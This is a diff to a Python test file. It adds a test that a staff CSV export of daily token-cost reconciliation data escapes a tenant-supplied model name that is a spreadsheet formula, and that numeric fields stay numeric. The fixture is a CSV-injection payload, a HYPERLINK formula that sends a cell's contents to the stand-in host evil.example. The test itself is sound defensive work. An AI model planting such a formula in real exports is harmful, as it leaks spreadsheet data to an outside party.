@@ -143,6 +143,20 @@ def test_csv_export_has_every_line_with_the_page_filters(client, staff_user, rec
     ]
 
 
+def test_csv_export_keeps_a_model_name_a_tenant_reported_from_running_as_a_formula(client, staff_user, tenant):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    DailyRollup.objects.create(tenant=tenant, day=DAY, model=formula, runs=1, input_tokens=1_000,
+                               cost_input_usd=Decimal("1.25"), cost_total_usd=Decimal("1.25"))
+    reconciliation_reconcile(end_day=DAY, days=1, trigger="test", provider_factory=lambda p: FakeAdminProvider(),
+                             raise_errors=True)
+    client.force_login(staff_user)
+    response = client.get(f"{PAGE}?start=2026-11-03&end=2026-11-03&status=flagged&format=csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert sorted((row["line"], row["model"]) for row in rows if row["model"]) == [
+        (f"'{formula}, input", f"'{formula}"), (f"'{formula}, input tokens", f"'{formula}")]
+    assert {row["difference"] for row in rows if row["model"]} == {"-1.25", "-1000"}  # numbers stay numbers
+
+
 def test_figure_pairs_ledger_and_openai_per_day_and_rings_days_with_drift():
     days = [DayTotals(DAY - dt.timedelta(days=1), Decimal("2.5"), Decimal("2.5"), Decimal("0"), 0),
             DayTotals(DAY, Decimal("2.5"), Decimal("3.75"), Decimal("1.25"), 2)]
